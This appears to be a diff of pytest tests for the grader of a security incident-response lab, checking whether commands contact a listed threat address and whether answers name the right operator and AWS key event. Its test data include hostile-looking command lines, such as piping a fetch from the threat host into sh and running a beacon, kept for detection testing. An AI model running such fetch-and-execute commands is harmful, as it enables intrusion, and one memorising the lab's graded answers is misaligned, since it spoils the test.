@@ -10,9 +10,19 @@ from typing import Any
 import pytest
 
 from labkit.errors import GraderError
+from labkit.evidence import trail
 from labkit.grading import checks, samples
 from labkit.grading.judge import judge
-from labkit.model import Answer, Evidence, EvidenceBundle, FlowRecord, Outcome, Run
+from labkit.model import (
+    Answer,
+    Evidence,
+    EvidenceBundle,
+    FlowRecord,
+    Outcome,
+    Run,
+    Source,
+    SourceState,
+)
 
 FOLDER = Path(__file__).resolve().parents[2] / "checks" / "malicious_callout"
 FILES = {file.name: file for file in checks.load(FOLDER)}
@@ -238,3 +248,140 @@ def test_calls_that_the_history_lists_but_that_do_not_count_are_not_called_missi
     without = judge(FILES["api_events"], EvidenceBundle(evidence, answers))
     assert without is not None
     assert "not in your server's event history" in without.message
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"sudo iptables -A OUTPUT -d {THREAT} -j DROP",
+        f"git commit -m 'block http://{THREAT}/'",
+        f"zgrep {THREAT} /var/log/messages-1.gz",
+        f"sudo -u root nft add rule inet filter out ip daddr {THREAT} drop",
+        f"awk '/{THREAT}/' access.log",
+        f"curl -H 'X-Forwarded-For: {THREAT}' http://192.0.2.1/",
+        f"curl -so {THREAT}.txt http://192.0.2.1/",
+        f"dig -x {THREAT}",
+        f"bash -c 'echo {THREAT}'",
+        f"ADDRESS={THREAT}; echo $ADDRESS",
+        f"logger called {THREAT}",
+    ],
+)
+def test_a_line_that_only_mentions_a_listed_address_is_no_call(
+    evidence: Evidence, command: str
+) -> None:
+    record = replace(evidence.commands[-1], command=command)
+
+    assert incident.address_called(record, evidence.threat_addresses) is None
+    both = replace(evidence, commands=(*evidence.commands, record))
+    assert outcome("command", both, command) is Outcome.WRONG
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"ADDRESS={THREAT}; curl http://$ADDRESS/x",
+        f"for a in {THREAT}; do wget -q $a; done",
+        f"timeout 5 curl {THREAT}",
+        f'echo "$(curl -s http://{THREAT}/)"',
+        f"bash -c 'curl -s {THREAT} | sh'",
+        f"./beacon {THREAT}",
+        f"/usr/bin/python3.11 -c 'import urllib.request as u; u.urlopen(\"http://{THREAT}\")'",
+        f"git clone http://{THREAT}/x",
+        f"sudo -u nobody env A=1 nice -n 5 curl -so out http://{THREAT}/",
+        f"dig @{THREAT} example.com",
+    ],
+)
+def test_a_call_is_seen_behind_wrappers_and_variables(evidence: Evidence, command: str) -> None:
+    record = replace(evidence.commands[-1], command=command)
+
+    assert incident.address_called(record, evidence.threat_addresses) == THREAT
+
+
+def test_a_listed_ipv6_address_is_known_in_any_notation(evidence: Evidence) -> None:
+    listed = replace(evidence, threat_addresses=("2001:db8::7",))
+    line = "curl -s http://[2001:DB8:0:0::7]:8080/x"
+    record = replace(evidence.commands[-1], command=line)
+
+    assert incident.address_called(record, listed.threat_addresses) == "2001:db8::7"
+    longer = replace(record, command="curl http://[2001:db8::7:1]/")
+    assert incident.address_called(longer, listed.threat_addresses) is None
+
+
+def test_a_server_that_connects_elsewhere_by_ssh_is_not_its_own_operator(
+    evidence: Evidence,
+) -> None:
+    outbound = login(evidence)._replace(
+        source=SERVER, destination="192.0.2.66", source_port=50123, destination_port=22, bytes=10**8
+    )
+    answer = outbound._replace(
+        source="192.0.2.66", destination=SERVER, source_port=22, destination_port=50123
+    )
+    both = with_flows(evidence, outbound, answer)
+
+    assert outcome("operator_address", both, OPERATOR) is Outcome.PASSED
+    assert outcome("operator_address", both, "192.0.2.66") is Outcome.WRONG
+    assert outcome("operator_address", both, SERVER) is Outcome.WRONG
+
+
+def key_sent(evidence: Evidence, **parts: Any) -> Any:
+    """The record of the key, with parts of it replaced."""
+    sent = next(event for event in evidence.trail if event.name == "SendSSHPublicKey")
+    return trail.parse({**sent.record, "eventID": "another", **parts})
+
+
+def test_a_key_for_another_server_of_the_lab_is_not_the_incidents(evidence: Evidence) -> None:
+    caller, address = "staff-session", "192.0.2.99"
+    identity = {
+        "type": "AssumedRole",
+        "arn": f"arn:aws:sts::210000000001:assumed-role/admin/{caller}",
+    }
+    other = key_sent(
+        evidence,
+        userIdentity=identity,
+        sourceIPAddress=address,
+        requestParameters={"instanceId": evidence.instances[1].instance_id},
+    )
+    noisy = replace(evidence, trail=(*evidence.trail, other))
+
+    assert outcome("trail_query", noisy, caller, address) is Outcome.WRONG
+    assert outcome("trail_query", noisy, "nadia-release-417", OPERATOR) is Outcome.PASSED
+
+
+def test_an_earlier_session_of_staff_changes_nothing(evidence: Evidence) -> None:
+    sent = next(event for event in evidence.trail if event.name == "SendSSHPublicKey")
+    identity = {
+        "type": "AssumedRole",
+        "arn": "arn:aws:sts::210000000001:assumed-role/admin/staff",
+    }
+    early = key_sent(
+        evidence,
+        userIdentity=identity,
+        sourceIPAddress="192.0.2.99",
+        eventTime=f"{sent.time - timedelta(seconds=20):%Y-%m-%dT%H:%M:%SZ}",
+    )
+    noisy = replace(evidence, trail=(early, *evidence.trail))
+
+    assert outcome("trail_query", noisy, "staff", "192.0.2.99") is Outcome.WRONG
+    assert outcome("trail_query", noisy, "nadia-release-417", OPERATOR) is Outcome.PASSED
+
+
+def test_of_two_logins_in_one_window_the_sender_of_the_key_is_the_operator(
+    evidence: Evidence,
+) -> None:
+    busier = login(evidence)._replace(destination="192.0.2.66", bytes=10**8)
+    two = with_flows(evidence, busier)
+
+    assert outcome("operator_address", two, OPERATOR) is Outcome.PASSED
+    assert outcome("operator_address", two, "192.0.2.66") is Outcome.WRONG
+
+
+def test_two_logins_are_not_judged_before_the_trail_has_arrived(evidence: Evidence) -> None:
+    busier = login(evidence)._replace(destination="192.0.2.66", bytes=10**8)
+    reports = tuple(
+        replace(r, state=SourceState.LATE, runs=()) if r.source is Source.TRAIL else r
+        for r in evidence.sources
+    )
+    late = replace(with_flows(evidence, busier), trail=(), sources=reports)
+
+    assert outcome("operator_address", late, OPERATOR) is Outcome.PENDING
+    assert outcome("operator_address", late, "192.0.2.66") is Outcome.PENDING
